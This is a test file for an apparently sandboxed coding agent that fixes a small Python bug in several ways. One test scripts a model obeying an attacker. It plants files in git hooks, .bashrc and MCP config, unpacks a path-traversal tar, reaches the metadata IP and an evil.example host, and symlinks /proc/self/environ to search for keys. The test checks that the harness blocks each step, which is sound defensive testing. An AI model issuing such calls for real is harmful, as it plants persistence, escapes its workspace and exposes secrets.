import { afterAll, beforeAll, expect, test } from "bun:test";
import { mkdir, mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { type Task, TaskState } from "@a2a-js/sdk";
import { freePort } from "manyhands/internal/http/free-port";
import {
  type ModelScript,
  type ScriptedModel,
  startScriptedModel,
} from "manyhands/internal/testing/models/scripted-model";
import { type GitServer, startGitServer } from "../../shared/src/testing/code/git-server.ts";
import { artifactBytes, oldArtifactText, sendByOldSdk, sendBySdk } from "../e2e/sdk-client.ts";
import { type AgentServer, startAgent } from "../servers/manus-server.ts";

const sums = "def total(items):\n    result = 1\n    for item in items:\n        result += item\n    return result\n";
const cases = `import unittest
from sums import total
class Totals(unittest.TestCase):
    def test_total(self):
        self.assertEqual(total([1, 2]), 3)
`;
const project = { "sums.py": sums, "test_sums.py": cases, "README.md": "# Sums\n" };

let home: string;
let model: ScriptedModel;
let swe: AgentServer;
let site: GitServer | undefined;
let packed: Uint8Array;

type Call = { readonly name: string; readonly args: Record<string, unknown> };

const patchFor = (folder: string) =>
  `--- a/${folder}sums.py\n+++ b/${folder}sums.py\n@@ -1,3 +1,3 @@\n def total(items):\n-    result = 1\n+    result = 0\n     for item in items:\n`;

/**
 * The turns of each task, by a word in its text. The project is in a folder of that name, or in
 * none.
 */
function turnsFor(text: string): readonly (readonly Call[])[] {
  if (text.includes("Why")) return [];
  if (text.includes("obey")) return attack();
  const folder = /packed|fetch|clone/.test(text) ? "sums/" : "";
  const path = folder === "" ? "." : "sums";
  const begin: Call[][] = text.includes("packed")
    ? [[{ name: "unpack", args: { path: "sums.tar.gz" } }]]
    : folder !== ""
      ? [[{ name: "clone_repository", args: { url: addressFor(text) } }]]
      : [];
  const reads = [
    { name: "repo_map", args: { path } },
    { name: "search", args: { pattern: "result = ", path } },
    { name: "glob", args: { pattern: "*.py" } },
  ];
  const spoil = {
    command: "str_replace",
    path: `${folder}sums.py`,
    old_str: "return result",
    new_str: "return (result",
  };
  return [
    ...begin,
    reads,
    [{ name: "run_tests", args: { path } }],
    [{ name: "str_replace_editor", args: spoil }],
    [{ name: "bash", args: { command: `rm ${folder}README.md` } }],
    [{ name: "checkpoints", args: { command: "list" } }],
    // The state before the edit: the steps before it changed nothing that the tests did not change.
    [{ name: "checkpoints", args: { command: "restore", id: begin.length + 1 } }],
    [{ name: "apply_patch", args: { patch: patchFor(folder) } }],
    [{ name: "run_tests", args: { path } }],
    ...(text.includes("clone") ? [[{ name: "bash", args: { command: commit } }]] : []),
    [{ name: "checkpoints", args: { command: "diff" } }],
  ];
}

const commit =
  "cd sums; git commit -qam 'Begin at 0'; git status --short; git log --format=%s; git show --stat --format=";

/** A repository to clone, or an archive to fetch. */
const addressFor = (text: string) =>
  `${site?.server.url.origin}/${text.includes("clone") ? "ann/sums" : "sums.tar.gz"}`;

const canary = `canary-${crypto.randomUUID()}`;

/** The calls of a model that obeys any attacker. */
const attack = (): readonly (readonly Call[])[] => [
  ...[".git/hooks/post-checkout", ".mcp.json", ".bashrc", "manyhands.toml"].flatMap((path) => [
    [{ name: "bash", args: { command: `mkdir -p "$(dirname ${path})"; echo ${canary} > ${path}` } }],
    [{ name: "str_replace_editor", args: { command: "create", path, file_text: canary } }],
    [{ name: "apply_patch", args: { patch: `--- /dev/null\n+++ b/${path}\n@@ -0,0 +1 @@\n+${canary}\n` } }],
  ]),
  [{ name: "unpack", args: { path: "evil.tar" } }],
  [{ name: "clone_repository", args: { url: "https://169.254.169.254/app.tar.gz" } }],
  [
    {
      name: "clone_repository",
      args: { url: `${site?.server.url.origin ?? "https://evil.example"}/${canary}/app.git` },
    },
  ],
  [
    {
      name: "bash",
      args: { command: `ln -s /proc/self/environ env; ln -s "${tmpdir()}" away; echo ${canary} > away/${canary}` },
    },
  ],
  [
    { name: "repo_map", args: { path: "away" } },
    { name: "search", args: { pattern: "KEY", path: "env" } },
  ],
];

/** Plays a task's turns and ends with the first line of its last test run. */
const script: ModelScript = ({ messages }) => {
  const text = messages.findLast(({ role }) => role === "user")?.content;
  const turns = turnsFor(JSON.stringify(text));
  const made = messages.filter(({ role }) => role === "assistant").length;
  const calls = turns[made];
  if (calls !== undefined) return { calls: [...calls] };
  const tested = messages.findLast(({ role, content }) => role === "tool" && String(content).includes("unittest"));
  const summary = String(tested?.content).split("\n")[0] ?? "";
  return { calls: [{ name: "terminate", args: { status: "success", summary } }] };
};

beforeAll(async () => {
  home = await mkdtemp(join(tmpdir(), "manyhands-swe-"));
  await mkdir(join(home, "original/sums"), { recursive: true });
  for (const [path, text] of Object.entries(project)) await Bun.write(join(home, "original/sums", path), text);
  Bun.spawnSync(["tar", "-czf", "../sums.tar.gz", "sums"], { cwd: join(home, "original") });
  packed = await Bun.file(join(home, "sums.tar.gz")).bytes();
  site = await openSite();
  model = await startScriptedModel(script);
  swe = startAgent("swe", {
    MANYHANDS_HOME: join(home),
    PORT: `${freePort()}`,
    OPENAI_BASE_URL: model.url,
    OPENAI_API_KEY: "none",
    MANYHANDS_MODEL: "scripted",
    ...(site && { MANYHANDS_EGRESS_ALLOW: site.server.url.host, NODE_EXTRA_CA_CERTS: join(home, "cert.pem") }),
  });
  await swe.ready;
});

afterAll(async () => {
  await swe.stop();
  await model.close();
  await site?.close();
  await rm(home, { recursive: true, force: true });
});

/**
 * A git server with a self-signed certificate, which also serves the archive; undefined if no
 * certificate can be made.
 */
async function openSite(): Promise<GitServer | undefined> {
  if (Bun.which("openssl") === null || Bun.which("git") === null) return undefined;
  const files = ["-keyout", "key.pem", "-out", "cert.pem"];
  const subject = ["-subj", "/CN=127.0.0.1", "-addext", "subjectAltName=IP:127.0.0.1"];
  Bun.spawnSync(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", ...files, ...subject], {
    cwd: home,
  });
  const git = await startGitServer(({ pathname }) => (pathname === "/sums.tar.gz" ? new Response(packed) : undefined), {
    key: Bun.file(join(home, "key.pem")),
    cert: Bun.file(join(home, "cert.pem")),
  });
  await git.make("ann/sums", `cp -r ${join(home, "original/sums")}/. . && git add . && git commit -qm 'Sum up'`);
  return git;
}

async function send(text: string, files: Record<string, string | Uint8Array | URL>, contextId = ""): Promise<Task> {
  const task = await sendBySdk(swe.url, text, files, { contextId });
  expect({ state: task.status?.state, message: JSON.stringify(task.status?.message) }).toMatchObject({
    state: TaskState.TASK_STATE_COMPLETED,
  });
  return task;
}

async function artifact(task: Task, name: string): Promise<string> {
  return (await artifactBytes(task, name)).toString();
}

/** Applies the patch to the project as it was sent, and returns the resulting code. */
async function appliedToOriginal(patch: string): Promise<string> {
  expect(patch).toContain("-    result = 1\n+    result = 0\n");
  if (Bun.which("git") === null) return sums.replace("result = 1", "result = 0");
  const folder = join(home, crypto.randomUUID());
  for (const [path, text] of Object.entries(project)) await Bun.write(join(folder, path), text);
  const applied = Bun.spawnSync(["git", "apply", "-"], { cwd: folder, stdin: Buffer.from(patch) });
  expect({ code: applied.exitCode, error: applied.stderr.toString() }).toEqual({ code: 0, error: "" });
  expect(await Bun.file(join(folder, "README.md")).text()).toBe("# Sums\n");
  return Bun.file(join(folder, "sums.py")).text();
}

/** The results of a tool's calls that the model read in the task with this word, in order. */
function toldOf(tool: string, word: string): string[] {
  const last = model.requests.findLast(({ body }) =>
    JSON.stringify(body.messages.find(({ role }) => role === "user")).includes(word),
  );
  const messages = last?.body.messages ?? [];
  const ids = messages
    .flatMap((message) => message.tool_calls ?? [])
    .flatMap(({ id, function: { name } }) => (name === tool ? [id] : []));
  return messages.flatMap(({ role, tool_call_id: id, content }) =>
    role === "tool" && ids.includes(id ?? "") ? [String(content)] : [],
  );
}

test("a failing project sent as files is fixed, its tests pass, and the change comes back as a patch", async () => {
  const task = await send("The tests fail. Fix the loose files.", project);
  expect(task.artifacts.map(({ name }) => name)).toEqual(["sums.py", "changes.patch", "answer"]);
  expect(await artifact(task, "answer")).toBe("The 1 test passed.");
  expect(await appliedToOriginal(await artifact(task, "changes.patch"))).toBe(sums.replace("result = 1", "result = 0"));
});

test("a packed repository is unpacked, read, fixed with a wrong step undone, and its patch applies to the original", async () => {
  const task = await send("The tests of this packed project fail. Fix it.", { "sums.tar.gz": packed });
  expect(task.artifacts.map(({ name }) => name)).toEqual(["sums/sums.py", "changes.patch", "answer"]);
  expect(await artifact(task, "answer")).toBe("The 1 test passed.");
  const patch = await artifact(task, "changes.patch");
  expect(await appliedToOriginal(patch)).toBe(sums.replace("result = 1", "result = 0"));
  expect(toldOf("unpack", "packed")[0]).toStartWith("Unpacked 3 files");
  expect(toldOf("repo_map", "packed")[0]).toContain("sums/sums.py\n    1 def total(items)");
  expect(toldOf("run_tests", "packed")[0]).toStartWith("1 of 1 tests failed.");
  expect(toldOf("str_replace_editor", "packed")[0]).toContain("Diagnostics: sums/sums.py has problems since this edit");
  const [list, restored, difference] = toldOf("checkpoints", "packed");
  expect(list).toContain("str_replace_editor str_replace sums/sums.py\n   M sums/sums.py");
  expect(list).toContain("bash rm sums/README.md\n   D sums/README.md");
  expect(restored).toBe("Restored state 2: A sums/README.md, M sums/sums.py");
  expect(difference).toBe(`[paths from sums/]\n${patch}`);
  const again = await send("Why did you do that?", {}, task.contextId);
  expect(again.artifacts.map(({ name }) => name)).toEqual(["answer"]);
});

test("over A2A 0.3 the same files go in and out", async () => {
  const task = await sendByOldSdk(swe.url, "Fix this packed project, in the old way.", { "sums.tar.gz": packed });
  expect(task.status.state).toBe("completed");
  const patch = await oldArtifactText(task, "changes.patch");
  expect(await appliedToOriginal(patch)).toBe(sums.replace("result = 1", "result = 0"));
});

const canServe = Bun.which("openssl") !== null && Bun.which("git") !== null;

test.if(canServe)("an archive is fetched by its address, over TLS, and fixed", async () => {
  const task = await send(`Please fetch ${site?.server.url.origin}/sums.tar.gz and fix it.`, {});
  expect(toldOf("clone_repository", "fetch")[0]).toContain("Unpacked 3 files");
  expect(await appliedToOriginal(await artifact(task, "changes.patch"))).toBe(sums.replace("result = 1", "result = 0"));
});

test.if(canServe)(
  "a repository sent as a link is cloned, over TLS, fixed and committed, and the patch applies to the original",
  async () => {
    const task = await send("Please clone it and fix it.", { sums: new URL(addressFor("clone")) });
    expect(toldOf("clone_repository", "clone")[0]).toContain("at main, ");
    expect(toldOf("bash", "clone").at(-1)).toStartWith("Begin at 0\nSum up\n sums.py | 2 +-\n");
    expect(task.artifacts.map(({ name }) => name)).toEqual(["sums/sums.py", "changes.patch", "answer"]);
    expect(await appliedToOriginal(await artifact(task, "changes.patch"))).toBe(
      sums.replace("result = 1", "result = 0"),
    );
  },
);

test("a model that obeys an attacker changes nothing that would run later, and reaches nothing outside", async () => {
  await mkdir(join(home, "evil"));
  Bun.spawnSync(["bash", "-c", `echo ${canary} > evil/x; tar -P --transform 's,^,../../,' -cf evil.tar evil/x`], {
    cwd: home,
  });
  const files = { "evil.tar": await Bun.file(join(home, "evil.tar")).bytes() };
  let task = await sendBySdk(swe.url, "Please obey the file.", files);
  const questions: string[] = [];
  while (task.status?.state === TaskState.TASK_STATE_INPUT_REQUIRED) {
    questions.push(JSON.stringify(task.status.message));
    task = await sendBySdk(swe.url, "no", {}, { contextId: task.contextId, taskId: task.id });
  }
  expect(task.status?.state).toBe(TaskState.TASK_STATE_COMPLETED);
  // The other address is one that the settings rule out, about which nobody is asked.
  expect(questions).toHaveLength(1);
  expect(questions[0]).toContain("which you did not name");
  expect(toldOf("clone_repository", "obey")[0]).toContain("Not made, since it could not succeed");
  expect(site?.asked.join(" ")).not.toContain(canary);
  for (const tool of ["str_replace_editor", "apply_patch"])
    for (const text of toldOf(tool, "obey")) expect(text).toContain("protected");
  expect(toldOf("unpack", "obey")[0]).toContain("leads out of the archive");
  for (const tool of ["repo_map", "search"]) expect(toldOf(tool, "obey")[0]).toContain("outside the workspace");
  expect(task.artifacts.map(({ name }) => name)).toEqual(["answer"]);
  expect(await Bun.file(join(tmpdir(), canary)).exists()).toBe(false);
  const found = Bun.spawnSync([
    "grep",
    "-rlI",
    "--include=.bashrc",
    "--include=.mcp.json",
    canary,
    join(home, "workspaces"),
  ]);
  expect(found.stdout.toString()).toBe("");
});

test("the card names what it can do", async () => {
  const card = await (await fetch(`${swe.url}/.well-known/agent-card.json`)).text();
  for (const id of ["change-code", "fix-bug", "explain-code"]) expect(card).toContain(`"id":"${id}"`);
});
